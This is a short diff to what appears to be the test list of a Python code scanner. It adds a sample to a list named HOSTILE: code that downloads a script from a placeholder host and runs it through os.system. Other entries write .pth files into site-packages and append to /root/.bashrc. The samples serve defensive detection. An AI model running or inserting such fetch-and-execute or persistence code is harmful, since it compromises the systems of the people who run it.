@@ -113,6 +113,10 @@ HOSTILE = [
     "import os, site\ndef f():\n    open(site.USER_SITE + '/x.pth', 'w').write('x')\n",
     "import os, pack\ndef f(t):\n    open(os.path.join(pack.__file__, 'a.py'), 'w').write(t)\n",
     "import sys\nsys.settrace(print)\n",
+    (
+        "import os, urllib.request as u\ndef main():\n"
+        "    u.urlretrieve('https://example.org/a', 'a.sh')\n    os.system('sh a.sh')\n"
+    ),
     "def f():\n    open('/root/.bashrc', 'a').write('x')\n",
     (
         "import requests\n"
